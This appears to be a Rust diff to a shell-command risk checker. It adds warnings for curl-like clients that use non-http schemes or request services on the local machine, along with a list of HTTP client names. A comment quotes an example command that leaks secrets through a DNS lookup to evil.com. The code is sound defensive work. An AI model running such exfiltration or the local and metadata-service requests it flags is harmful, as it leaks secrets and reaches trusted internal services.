@@ -87,6 +87,25 @@ impl Engine<'_> {
                 Verdict::medium(format!("names the cloud metadata address {address}"))
             });
         }
+        if is_http_client(inv.name) {
+            for word in inv.args {
+                if let Some(scheme) = paths::local::other_scheme(&word.text) {
+                    verdict = verdict.max(Verdict::medium(format!(
+                        "uses the {scheme}:// scheme; only http and https requests are known to be read-only"
+                    )));
+                }
+                // `--resolve example.com:443:127.0.0.1` and `--connect-to` send the request here too.
+                let bare = !word.text.starts_with('-');
+                let parts = word.text.split(':').filter(|_| bare && word.text.matches(':').count() >= 2);
+                let local = paths::local::local_host_in(&word.text, bare)
+                    .or_else(|| parts.filter_map(|p| paths::local::local_host_in(p, true)).next());
+                if let Some(host) = local.filter(|_| !paths::local::is_probe(&word.text)) {
+                    verdict = verdict.max(Verdict::medium(format!(
+                        "requests a service on this machine ({host}) beyond a health or metrics probe; local services often trust local callers"
+                    )));
+                }
+            }
+        }
         // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
         let network = NETWORK_PROGRAMS.contains(&inv.name);
         if let Some(word) = inv.args.iter().find(|w| w.dynamic && (network || w.text.contains("://"))) {
@@ -150,6 +169,14 @@ impl Engine<'_> {
 }
 
 /// Network clients: a metadata address among their arguments is a request to it.
+/// Clients that fetch URLs (their bare words are hosts).
+fn is_http_client(name: &str) -> bool {
+    matches!(
+        name,
+        "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "aria2c" | "lynx" | "w3m" | "links" | "fetch" | "wget2"
+    )
+}
+
 fn is_network_client(name: &str) -> bool {
     NETWORK_PROGRAMS.contains(&name)
         || matches!(
